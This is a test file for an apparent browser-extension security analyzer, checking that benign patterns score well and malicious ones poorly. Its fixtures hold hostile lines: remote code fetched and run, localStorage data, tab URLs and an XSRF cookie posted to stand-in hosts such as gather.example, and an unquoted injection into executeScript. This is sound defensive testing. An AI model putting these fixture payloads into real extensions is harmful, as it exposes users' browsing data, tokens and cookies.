import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/*
 * What is the extension's own, the page's own or the person's own is no stranger's, each beside what is.
 */

const NOTES = {
  manifest_version: 3,
  name: 'Notes',
  version: '1',
  permissions: ['storage'],
  host_permissions: ['<all_urls>'],
};

async function grade(manifest: object, files: Readonly<Record<string, string>>): Promise<string> {
  const all = { 'manifest.json': JSON.stringify({ ...NOTES, ...manifest }), ...files };
  return (await analyze(memoryTree(all), { kind: 'extension' })).score.grade;
}

const BACKGROUND = { background: { service_worker: 'background.js' } };
const onPages = (...js: string[]) => ({ content_scripts: [{ matches: ['<all_urls>'], js }] });

describe('files of the package', () => {
  const worker = (address: string): string =>
    `fetch(${address}).then((r) => r.text()).then((t) => new Worker(URL.createObjectURL(new Blob([t]))));`;
  const patch = 'const before = window.fetch; window.fetch = (...args) => before(...args);';

  it('stay that where some script puts a function of its own in place of `fetch`', async () => {
    const own = { 'background.js': worker("chrome.runtime.getURL('encode.js')"), 'patch.js': patch, 'encode.js': '' };
    expect(await grade(BACKGROUND, own)).toMatch(/^A/);
    const foreign = { ...own, 'background.js': worker("'https://code.example/encode.js'") };
    expect(await grade(BACKGROUND, foreign)).toMatch(/[DF]/);
  });

  it('are told by where the script itself lies', async () => {
    const load = (start: string): string =>
      `async function build() { show(await import(${start} + '/lists.js')); } build();`;
    expect(await grade(BACKGROUND, { 'background.js': '', 'dev/build.js': load('__dirname') })).toMatch(/^A/);
    expect(await grade(onPages('one.js'), { 'one.js': load("'https://code.example'") })).toMatch(/[DF]/);
  });

  it('hold templates that no browser runs', async () => {
    const page = (type: string): string => `<script ${type} src="row.htm"></script>`;
    const files = { 'background.js': '', 'row.htm': 'run()' };
    expect(await grade(BACKGROUND, { ...files, 'page.html': page('type="text/template"') })).toMatch(/^A/);
    expect(await grade(BACKGROUND, { ...files, 'page.html': page('type="module"') })).toMatch(/[CDF]/);
  });

  it('put their data into code between quotes', async () => {
    const draw = (hole: string): string =>
      `fetch(chrome.runtime.getURL('bell.png')).then((r) => r.text()).then((icon) => chrome.tabs.executeScript({ code: \`flip(${hole})\` }));`;
    expect(await grade(BACKGROUND, { 'background.js': draw("'${icon}'") })).toMatch(/^[AB]/);
    expect(await grade(BACKGROUND, { 'background.js': draw('${icon}') })).toMatch(/[CDF]/);
  });
});

describe('the page', () => {
  it('is the site whose address another script of it keeps', async () => {
    const send =
      "const u = new URL('/api/rows', SITE); fetch(u.href, { method: 'POST', body: localStorage.getItem('claim') });";
    const both = (site: string) => ({ 'one.js': `const SITE = ${site};`, 'two.js': send });
    expect(await grade(onPages('one.js', 'two.js'), both("location.origin + '/'"))).toMatch(/^A/);
    expect(await grade(onPages('one.js', 'two.js'), both("'https://gather.example/'"))).toMatch(/[CDF]/);
  });

  it('asks its own server by the requests whose methods a script replaces', async () => {
    const act =
      "fetch('/blocks', { method: 'POST', credentials: 'include', body: JSON.stringify(JSON.parse(ANSWER).who) });";
    const hook = `const open = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (...a) { this.addEventListener('load', function () { ${act.replace('ANSWER', 'this.responseText')} }); return open.apply(this, a); };`;
    const order = `fetch('https://orders.example/').then((r) => r.text()).then((t) => { ${act.replace('ANSWER', 't')} });`;
    expect(await grade(onPages('one.js'), { 'one.js': hook })).not.toMatch(/[DF]/);
    expect(await grade(onPages('one.js'), { 'one.js': order })).toMatch(/[DF]/);
  });
});

describe('the account that the person signs in to', () => {
  const send = (to: string): string =>
    `chrome.tabs.onUpdated.addListener((id, info, tab) => fetch('${to}', { method: 'POST', body: tab.url }));`;
  const sign = 'chrome.identity.getAuthToken({ interactive: true }, keep);';
  const TO = 'https://www.googleapis.com/upload/drive/v3/files';

  it('is theirs where the browser lets the extension in', async () => {
    expect(await grade(BACKGROUND, { 'background.js': sign + send(TO) })).toMatch(/^[AB]/);
  });
  it('is no other place, and none without that', async () => {
    expect(await grade(BACKGROUND, { 'background.js': sign + send('https://googleapis.example/') })).toBe('F');
    expect(await grade(BACKGROUND, { 'background.js': send(TO) })).toBe('F');
  });
});

describe('a token', () => {
  it('in the address that a sign-in ends at is the extension’s own', async () => {
    const own = (find: string): string => `function ended(address) { return ${find}.exec(address)[1]; }`;
    expect(await grade(BACKGROUND, { 'background.js': own('/access_token=([^&]+)/') })).toMatch(/^A/);
    expect(await grade(onPages('one.js'), { 'one.js': own('/"accessToken":"([^"]+)"/') })).not.toMatch(/^A/);
  });
});

describe('cookies', () => {
  it('are read by a client of requests for its token against forged ones', async () => {
    const read = (name: string): string =>
      `const client = { ${name}: 'XSRF-TOKEN' }; cookieStore.get(client.${name}).then((c) => fetch('https://gather.example/', { method: 'POST', headers: { t: c.value } }));`;
    expect(await grade(onPages('one.js'), { 'one.js': read('xsrfCookieName') })).toMatch(/^A/);
    expect(await grade(onPages('one.js'), { 'one.js': read('cookie') })).toBe('F');
    // The background's own are not the page's.
    expect(await grade(BACKGROUND, { 'background.js': read('cookie') })).toMatch(/^A/);
  });
});
